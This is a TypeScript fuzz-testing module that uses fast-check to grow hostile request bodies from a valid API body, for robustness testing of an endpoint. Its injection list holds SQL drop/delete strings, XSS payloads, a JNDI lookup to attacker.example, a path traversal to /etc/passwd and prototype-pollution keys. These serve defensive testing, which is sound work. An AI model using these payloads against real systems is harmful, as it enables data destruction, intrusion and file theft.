import fc from 'fast-check';

/**
 * Request bodies a hostile or broken client sends (fast-check), grown from one valid body of an
 * endpoint: a field set to a hostile value (wrong type, out of range, a date far off, a string
 * over any limit, deep nesting, an injection string), a field dropped, an unknown field added,
 * several of these at once, or no object at all (any JSON value, or text that is not JSON).
 */
export type Body = { json: unknown } | { raw: string };

const INJECTIONS = [
  "'; DROP TABLE intake.events; --",
  "' OR '1'='1",
  'Robert"); DELETE FROM disposal.events; --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  'a\u0000b',
  '\u202emoc.elgoog',
  '__proto__',
  'constructor',
  '%00%0d%0a',
  '😀𠜎\ud800',
  'NaN',
  '-1e309',
];

const DATES = [
  '2999-01-01T00:00:00Z',
  '1900-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '2026-02-30T00:00:00Z',
  '2026-13-01T00:00:00Z',
  '2026-11-27',
  '2026-11-27 10:00:00',
  '+275760-09-13T00:00:00Z',
  'yesterday',
  '',
];

/** An object nested `depth` levels deep (parsers and validators that recurse fall over these). */
export const nested = (depth: number): unknown => {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
};

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...INJECTIONS),
  fc.constantFrom<unknown>(...DATES),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.integer(),
  fc.double(),
  fc.constantFrom<unknown>(1e308, -1e308, 2 ** 53 + 1, -0, 91, -181, 1e-320),
  fc.boolean(),
  fc.constant(null),
  fc.integer({ min: 1_001, max: 120_000 }).map((n) => 'x'.repeat(n)),
  fc.integer({ min: 20, max: 3_000 }).map(nested),
  fc.array(fc.anything({ maxDepth: 2 }), { maxLength: 30 }),
  fc.object({ maxDepth: 2 }),
);

type Json = Record<string, unknown>;

const isObject = (value: unknown): value is Json =>
  value !== null && typeof value === 'object' && !Array.isArray(value);

/** The paths of a body's fields, nested objects' fields included ('location.lat'). */
function pathsOf(body: Json, prefix = ''): string[] {
  return Object.entries(body).flatMap(([key, value]) => {
    const path = `${prefix}${key}`;
    return isObject(value) ? [path, ...pathsOf(value, `${path}.`)] : [path];
  });
}

/**
 * A copy of `body` with `edit` applied at `path`, copying only the objects on the path (the values
 * may be nested thousands deep); unchanged where an earlier edit removed the path.
 */
function edited(body: Json, path: string, edit: (parent: Json, key: string) => void): Json {
  const copy = { ...body };
  const keys = path.split('.');
  let parent: Json = copy;
  for (const key of keys.slice(0, -1)) {
    const child = parent[key];
    if (!isObject(child)) return copy;
    parent = parent[key] = { ...child };
  }
  edit(parent, keys.at(-1)!);
  return copy;
}

type Mutation = (body: Json) => Json;

const mutation = (paths: string[]): fc.Arbitrary<Mutation> =>
  fc
    .oneof(
      // A body with no fields (a step that needs none) can only grow unknown ones.
      ...(paths.length === 0
        ? []
        : [
            { weight: 5, arbitrary: fc.tuple(fc.constantFrom(...paths), hostileValue) },
            { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...paths), fc.constant(undefined)) },
          ]),
      {
        weight: 1,
        arbitrary: fc.tuple(
          fc.oneof(
            fc.string({ minLength: 1, maxLength: 20 }),
            fc.constantFrom('__proto__', 'constructor', 'actor'),
          ),
          hostileValue,
        ),
      },
    )
    .map(
      ([path, value]) =>
        (body: Json) =>
          edited(body, path, (parent, key) => {
            if (value === undefined) delete parent[key];
            // An own property even for __proto__ (an assignment would set the prototype instead).
            else
              Object.defineProperty(parent, key, {
                value,
                enumerable: true,
                writable: true,
                configurable: true,
              });
          }),
    );

/** Bodies grown from `valid` (see above); `valid` itself may come out, and must be answered too. */
export function bodiesFrom(valid: Json): fc.Arbitrary<Body> {
  const paths = pathsOf(valid);
  return fc.oneof(
    {
      weight: 8,
      arbitrary: fc
        .array(mutation(paths), { minLength: 1, maxLength: 3 })
        .map((mutations) => ({ json: mutations.reduce((body, m) => m(body), valid) })),
    },
    { weight: 1, arbitrary: fc.anything({ maxDepth: 3 }).map((json) => ({ json })) },
    { weight: 1, arbitrary: fc.string({ maxLength: 200 }).map((raw) => ({ raw })) },
  );
}

/** `count` bodies for `valid`, the same ones for the same seed. */
export const sampleBodies = (valid: Json, count: number, seed: number): Body[] =>
  fc.sample(bodiesFrom(valid), { numRuns: count, seed });

/** The body as sent: JSON, or the raw text as it is (under a JSON content type). */
export const payloadOf = (body: Body): string =>
  'raw' in body ? body.raw : (JSON.stringify(body.json) ?? 'null');

/** The same body form-encoded (Open311): every field a string, objects as JSON text. */
export function formOf(body: Body): string {
  if ('raw' in body) return body.raw;
  const json = body.json;
  if (json === null || typeof json !== 'object' || Array.isArray(json)) return String(json);
  const form = new URLSearchParams();
  for (const [name, value] of Object.entries(json as Json))
    form.append(name, typeof value === 'string' ? value : (JSON.stringify(value) ?? ''));
  return form.toString();
}
